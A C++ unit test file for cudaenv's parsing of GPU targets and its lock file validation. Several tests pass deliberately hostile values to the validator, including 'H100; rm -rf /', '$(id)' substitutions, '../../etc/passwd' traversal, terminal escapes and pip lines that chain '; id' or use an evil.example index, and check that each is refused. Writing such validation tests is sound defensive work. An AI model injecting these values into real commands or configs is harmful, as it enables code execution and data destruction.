// [targets.NAME] in .cudaenv (checked with file:line like the rest of the file) and
// .cudaenv.lock read back exactly as written, with every untrusted field checked.

#include <string>

#include <doctest/doctest.h>

#include "lock/lock_compare.hpp"
#include "lock/lock_file.hpp"
#include "project/project_file.hpp"
#include "project/targets.hpp"
#include "test_util.hpp"

using namespace cudaenv;

namespace {

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

const char* const two_targets =
    "cuda = \"12.4\"\n"
    "[targets.a100]\n"
    "driver = \"535.104.05\"\n"
    "arch = [\"8.0\"]\n"
    "[targets.h100]\n"
    "driver = \"550.54.15\"\n"
    "arch = [\"9.0\", \"8.0\"]\n";

lock::LockFile sample_lock() {
  lock::LockFile lock;
  lock.generated_by = "cudaenv 1.0";
  lock.database_revision = "2026-11-01";
  lock.database_sha256 = std::string(64, 'a');
  lock.request = {{"cuda", "12.4"}, {"torch", "2.5"}};
  lock.toolkit.version = "12.4.1";
  lock.toolkit.components.push_back({"cuda_nvcc", "12.4.131",
                                     "cuda_nvcc/linux-x86_64/cuda_nvcc-12.4.131-archive.tar.xz",
                                     std::string(64, 'b'), 42});
  lock.frameworks["torch"] = {
      "2.5.1+cu124",
      "https://download.pytorch.org/whl/cu124",
      "pip install torch==2.5.1+cu124 --index-url https://download.pytorch.org/whl/cu124",
      {{"torch-2.5.1+cu124-cp312-cp312-linux_x86_64.whl", std::string(64, 'e')},
       {"torch-2.5.1+cu124-cp313-cp313-linux_x86_64.whl", ""}}};
  lock::LockedTarget target{"535.104.05", "minor-compat", {"8.0"}, "8.0", "80", "", {}, {}};
  target.verified.push_back({"2026-11-30T19:00:00Z", "NVIDIA \"A100\"", "8.0", "550.54.15",
                             "12.4.1", std::string(64, 'c'), std::string(64, 'd')});
  lock.targets["a100"] = target;
  return lock;
}

}  // namespace

TEST_CASE("declared targets are read in file order with their driver and sorted archs") {
  auto file = project::parse_project_file(two_targets, "/r/.cudaenv");
  REQUIRE(file.ok());
  REQUIRE(file->warnings.empty());
  REQUIRE(file->targets.size() == 2);
  CHECK(file->targets[0].name == "a100");
  CHECK(file->targets[0].driver.str() == "535.104.05");
  CHECK(file->targets[1].name == "h100");
  REQUIRE(file->targets[1].archs.size() == 2);
  CHECK(file->targets[1].archs[0].str() == "8.0");
  CHECK(project::arch_digits(file->targets[1].archs[1]) == "90");
  CHECK(project::find_target(file->targets, "h100") == &file->targets[1]);
}

TEST_CASE("a bad target names the file, the line and what to write") {
  auto no_driver =
      project::parse_targets("cuda = \"12.4\"\n[targets.a100]\narch = [\"8.0\"]\n", "/r/.cudaenv");
  REQUIRE_FALSE(no_driver.ok());
  CHECK(no_driver.error().message == "/r/.cudaenv:2: targets.a100 has no driver");
  CHECK(no_driver.error().kind == ErrorKind::usage);
  auto bad_arch = project::parse_targets(
      "cuda = \"12.4\"\n[targets.a100]\ndriver = \"535.104.05\"\narch = [\"sm_80\"]\n",
      "/r/.cudaenv");
  REQUIRE_FALSE(bad_arch.ok());
  CHECK(has(bad_arch.error().message, "/r/.cudaenv:4: targets.a100.arch"));
  auto bad_name = project::parse_targets("cuda = \"12.4\"\n[targets.\"a b\"]\n", "/r/.cudaenv");
  REQUIRE_FALSE(bad_name.ok());
  CHECK(has(bad_name.error().message, "must be letters, digits"));
}

TEST_CASE("a target takes a driver branch and a single architecture, as people write them") {
  const auto with = [](const std::string& driver, const std::string& arch) {
    return project::parse_targets(
        "cuda = \"13\"\n[targets.h100]\ndriver = " + driver + "\narch = " + arch + "\n",
        "/r/.cudaenv");
  };
  for (const auto* branch : {"\"580\"", "580"}) {
    CAPTURE(branch);
    auto targets = with(branch, "\"9.0\"");
    REQUIRE(targets.ok());
    CHECK(targets->front().driver.str() == "580");
    CHECK(targets->front().archs == std::vector<Version>{*Version::parse("9.0")});
  }
  CHECK(with("\"535.104.05\"", "[\"9.0\", \"8.0\"]").ok());
  for (const auto* bad : {"\"535.x\"", "\"12\"", "\"580.1.2.3\"", "-580", "\"latest\""}) {
    CAPTURE(bad);
    auto targets = with(bad, "\"9.0\"");
    REQUIRE_FALSE(targets.ok());
    CHECK(has(targets.error().message,
              "/r/.cudaenv:3: targets.h100.driver must be a driver version"));
  }
  auto bad_arch = with("\"580\"", "\"9\"");
  REQUIRE_FALSE(bad_arch.ok());
  CHECK(has(bad_arch.error().message, "targets.h100.arch must be a compute capability"));
}

TEST_CASE("a target names its GPUs as people write them, and the database gives their archs") {
  auto targets = project::parse_targets(
      "cuda = \"13\"\n[targets.lab]\ndriver = \"580\"\n"
      "gpu = [\"H100\", \"NVIDIA GeForce RTX 4090\", \"a100\"]\narch = \"8.6\"\n"
      "[targets.big]\ndriver = \"580\"\ngpu = \"B300\"\n",
      "/r/.cudaenv");
  REQUIRE(targets.ok());
  CHECK_FALSE(targets->front().archs_known());  // before the database named them
  CHECK(targets->front().archs == std::vector<Version>{*Version::parse("8.6")});
  const auto known = test::embedded_database().gpu_model_archs();
  REQUIRE(project::name_gpu_archs(*targets, known, "/r/.cudaenv").ok());
  std::vector<std::string> archs;
  for (const auto& arch : targets->front().archs) archs.push_back(arch.str());
  CHECK(archs == std::vector<std::string>{"8.0", "8.6", "8.9", "9.0"});
  CHECK(targets->front().archs_known());
  CHECK(targets->back().archs == std::vector<Version>{*Version::parse("10.3")});
  CHECK(project::gpu_key("GeForce rtx-4090") == project::gpu_key("RTX 4090"));
  CHECK(project::gpu_key("L40S") != project::gpu_key("L40"));
}

TEST_CASE("a GPU the database does not know is refused at its line, with the nearest names") {
  const auto named = [](const std::string& gpu) {
    auto targets = project::parse_targets(
        "cuda = \"13\"\n[targets.lab]\ndriver = \"580\"\ngpu = \"" + gpu + "\"\n", "/r/.cudaenv");
    REQUIRE(targets.ok());
    return project::name_gpu_archs(*targets, test::embedded_database().gpu_model_archs(),
                                   "/r/.cudaenv");
  };
  auto typo = named("H10");
  REQUIRE_FALSE(typo.ok());
  CHECK(typo.error().kind == ErrorKind::usage);
  CHECK(has(typo.error().message,
            "/r/.cudaenv:4: targets.lab.gpu: the database knows no GPU \"H10\"; did you mean"));
  CHECK(has(typo.error().message, "\"H100\""));
  CHECK(has(typo.error().hint, "arch = [\"8.0\"]"));
  auto unknown = named("Voodoo 5");
  REQUIRE_FALSE(unknown.ok());
  CHECK_FALSE(has(unknown.error().message, "did you mean"));
  // Neither a name nor an arch: nothing to build for.
  auto neither =
      project::parse_targets("cuda = \"13\"\n[targets.lab]\ndriver = \"580\"\n", "/r/.cudaenv");
  REQUIRE_FALSE(neither.ok());
  CHECK(has(neither.error().message, "targets.lab has no arch and no gpu"));
  for (const auto* bad : {"\"\"", "\"H100; rm -rf /\"", "[\"$(id)\"]", "[]", "7"}) {
    CAPTURE(bad);
    auto targets = project::parse_targets(
        std::string("cuda = \"13\"\n[targets.lab]\ndriver = \"580\"\ngpu = ") + bad + "\n",
        "/r/.cudaenv");
    REQUIRE_FALSE(targets.ok());
    CHECK(has(targets.error().message, "/r/.cudaenv:4: targets.lab.gpu must be a GPU model"));
  }
}

TEST_CASE("a misspelled key inside a target is named with its target") {
  auto file = project::parse_project_file(
      "cuda = \"12.4\"\n[targets.a100]\ndriver = \"535.104.05\"\narch = [\"8.0\"]\narhc = 1\n",
      "/r/.cudaenv");
  REQUIRE(file.ok());
  REQUIRE(file->warnings.size() == 1);
  CHECK(file->warnings[0].message ==
        "/r/.cudaenv:5: unknown key \"arhc\" in [targets.a100] (ignored); did you mean \"arch\"?");
}

TEST_CASE("a lock file reads back exactly what was written, quotes and all") {
  const auto lock = sample_lock();
  const auto text = lock::render_lock_file(lock);
  auto back = lock::parse_lock_file(text, "/r/.cudaenv.lock");
  REQUIRE(back.ok());
  CHECK(lock::render_lock_file(*back) == text);
  REQUIRE(back->targets.at("a100").verified.size() == 1);
  CHECK(back->targets.at("a100").verified[0].gpu == "NVIDIA \"A100\"");
  CHECK(back->frameworks.at("torch").pip_args ==
        std::vector<std::string>{"torch==2.5.1+cu124", "--index-url",
                                 "https://download.pytorch.org/whl/cu124"});
  CHECK(lock::set_digest(*back) == lock::set_digest(lock));
}

TEST_CASE("receipts and the generator do not change the locked set's digest, a component does") {
  auto lock = sample_lock();
  const auto digest = lock::set_digest(lock);
  lock.generated_by = "cudaenv 2.0";
  lock.targets["a100"].verified.clear();
  CHECK(lock::set_digest(lock) == digest);
  lock.toolkit.components[0].sha256 = std::string(64, 'e');
  CHECK(lock::set_digest(lock) != digest);
}

namespace {

// The error reading `lock` back after `change`, which must be refused as hostile (exit 6).
cudaenv::Error hostile(void (*change)(lock::LockFile&)) {
  auto lock = sample_lock();
  change(lock);
  auto back = lock::parse_lock_file(lock::render_lock_file(lock), "/r/.cudaenv.lock");
  REQUIRE_FALSE(back.ok());
  CHECK(back.error().kind == ErrorKind::integrity);
  CHECK(has(back.error().message, "/r/.cudaenv.lock:"));
  CHECK(has(back.error().hint, "corrupt or hostile"));
  return back.error();
}

}  // namespace

TEST_CASE("a lock whose archive path escapes the mirror or whose digest is malformed is refused") {
  CHECK(has(
      hostile([](auto& l) { l.toolkit.components[0].relative_path = "../../etc/passwd"; }).message,
      "toolkit.components[0].relative_path: \"../../etc/passwd\" is not a relative path"));
  CHECK(has(
      hostile([](auto& l) { l.toolkit.components[0].relative_path = "a/%2e%2e/%2e%2e/x"; }).message,
      "relative_path"));
  CHECK(has(hostile([](auto& l) { l.toolkit.components[0].relative_path = "/etc/passwd"; }).message,
            "relative_path"));
  CHECK(has(hostile([](auto& l) { l.toolkit.components[0].sha256 = "abc"; }).message,
            "sha256: \"abc\" is not a sha256"));
  CHECK(has(hostile([](auto& l) { l.toolkit.components[0].size = 0; }).message,
            "toolkit.components[0].size: 0 is not the size of an archive"));
}

TEST_CASE("a lock of an index's wheels says so, reads back, and pins wheel names alone") {
  auto lock = sample_lock();
  const auto redist_digest = lock::set_digest(lock);
  CHECK_FALSE(has(lock::render_lock_file(lock), "source"));  // older locks keep their text
  lock.source = lock::pypi_source;
  lock.toolkit.components[0].relative_path =
      "nvidia_cuda_nvcc-13.0.88-py3-none-manylinux2014_x86_64.manylinux_2_17_x86_64.whl";
  const auto text = lock::render_lock_file(lock);
  CHECK(has(text, "source = 'pypi'"));
  auto back = lock::parse_lock_file(text, "/r/.cudaenv.lock");
  REQUIRE(back.ok());
  CHECK(back->source == "pypi");
  CHECK(lock::set_digest(*back) != redist_digest);
  CHECK(has(hostile([](auto& l) {
              l.source = lock::pypi_source;  // a redist path where a wheel's name belongs
            }).message,
            "is not a wheel's file name"));
  CHECK(has(hostile([](auto& l) { l.source = "ftp"; }).message, "\"ftp\" is not redist or pypi"));
}

TEST_CASE("a lock's versions, names, revision and target settings pass their grammars") {
  CHECK(has(hostile([](auto& l) { l.toolkit.version = "../../x"; }).message,
            "toolkit.version: \"../../x\" is not a release version"));
  CHECK(has(hostile([](auto& l) { l.toolkit.components[0].name = "../nvcc"; }).message,
            "toolkit.components[0].name"));
  CHECK(has(hostile([](auto& l) { l.toolkit.components[0].version = "1;id"; }).message,
            "toolkit.components[0].version"));
  CHECK(has(hostile([](auto& l) { l.database_revision = "../2026-11-01"; }).message,
            "database.revision"));
  CHECK(has(hostile([](auto& l) {
              l.cudnn = lock::LockedCudnn{"9.1.0", "cuda11", {}};
            }).message,
            "cudnn.cuda_variant: \"cuda11\" is not the build for CUDA 12.4.1 (cuda12)"));
  CHECK(has(
      hostile([](auto& l) { l.targets["a100"].torch_cuda_arch_list = "8.0\"; id; \""; }).message,
      "TORCH_CUDA_ARCH_LIST"));
  CHECK(has(hostile([](auto& l) { l.targets["a100"].cudahostcxx = "g++ $(id)"; }).message,
            "CUDAHOSTCXX"));
  CHECK(has(hostile([](auto& l) { l.targets["a100"].mode = "all"; }).message, ".mode"));
  CHECK(has(hostile([](auto& l) { l.targets["a100"].verified[0].date = "yesterday"; }).message,
            ".verified[0].date"));
  CHECK(has(
      hostile([](auto& l) { l.frameworks["torch"].index_url = "https://x/\x1b]0;t\x07"; }).message,
      "frameworks.torch.index_url"));
}

TEST_CASE("a lock's pip line is one pinned requirement and index flags, or it is refused") {
  const char* const bad_lines[] = {
      "pip install torch==2.5.1+cu124 --index-url https://download.pytorch.org/whl/cu124; id",
      "pip install torch==2.5.1+cu124 --index-url https://download.pytorch.org/whl/cu124 evil",
      "pip install torch==2.5.1+cu124 --index-url https://evil.example/whl",
      "pip install torch==2.5.2+cu124 --index-url https://download.pytorch.org/whl/cu124",
      "pip install evil==2.5.1+cu124 --index-url https://download.pytorch.org/whl/cu124",
      "pip install \"$(id)\"==2.5.1+cu124",
      "pip install --extra-index-url=http://x/ torch==2.5.1+cu124",
      "sh -c id",
      "pip install",
  };
  for (const char* line : bad_lines) {
    CAPTURE(line);
    auto lock = sample_lock();
    lock.frameworks["torch"].pip = line;
    auto back = lock::parse_lock_file(lock::render_lock_file(lock), "/r/.cudaenv.lock");
    REQUIRE_FALSE(back.ok());
    CHECK(back.error().kind == ErrorKind::integrity);
    CHECK(has(back.error().message, "frameworks.torch.pip"));
  }
  auto jax = sample_lock();
  jax.frameworks["jax"] = {
      "0.5.0", "https://pypi.org/simple", "pip install -U \"jax[cuda12]==0.5.0\"", {}};
  auto back = lock::parse_lock_file(lock::render_lock_file(jax), "/r/.cudaenv.lock");
  REQUIRE(back.ok());
  CHECK(back->frameworks.at("jax").pip_args ==
        std::vector<std::string>{"-U", "jax[cuda12]==0.5.0"});
}

TEST_CASE("a lock of another lock_version is refused with the fix") {
  auto other = lock::parse_lock_file("lock_version = 9\n", "/r/.cudaenv.lock");
  REQUIRE_FALSE(other.ok());
  CHECK(has(other.error().message, "lock_version 9 is not one this cudaenv reads"));
}

TEST_CASE("a machine belongs to the target whose floor its driver meets and that lists its GPUs") {
  auto file = project::parse_project_file(two_targets, "/r/.cudaenv");
  REQUIRE(file.ok());
  const std::vector<Version> h100{*Version::parse("9.0"), *Version::parse("9.0")};
  auto match = project::match_target(file->targets, Version::parse("580.95.05"), h100);
  REQUIRE(match.match != nullptr);
  CHECK(match.match->name == "h100");
  // Below h100's floor: no match; h100 misses only the driver, a100 the architecture.
  match = project::match_target(file->targets, Version::parse("545.23.06"), h100);
  CHECK(match.match == nullptr);
  REQUIRE(match.closest != nullptr);
  CHECK(match.closest->name == "h100");
  CHECK(match.why == "driver 545.23.06 is below its floor 550.54.15");
  CHECK(project::match_target(file->targets, std::nullopt, {}).closest == nullptr);
}

TEST_CASE("the check names each changed field, and receipts go stale with the locked set") {
  const auto stored = sample_lock();
  auto fresh = sample_lock();
  CHECK(lock::differences(stored, fresh).empty());
  CHECK(lock::stale_receipts(stored, lock::set_digest(fresh)).size() == 1);  // 'd…' is no digest
  fresh.toolkit.components[0].sha256 = std::string(64, 'e');
  fresh.frameworks.erase("torch");
  const auto found = lock::differences(stored, fresh);
  REQUIRE(found.size() == 2);
  CHECK(has(found[0], "toolkit.components.cuda_nvcc.sha256: the lock has \"bbbb"));
  CHECK(found[1] == "frameworks.torch: in the lock, no longer wanted");
  auto kept = fresh;
  kept.targets["a100"].verified.clear();
  auto recorded = stored;
  recorded.targets["a100"].verified[0].locked_set = lock::set_digest(fresh);
  lock::keep_valid_receipts(recorded, kept);
  CHECK(kept.targets["a100"].verified.size() == 1);
  CHECK(lock::stale_receipts(recorded, lock::set_digest(fresh)).empty());
}
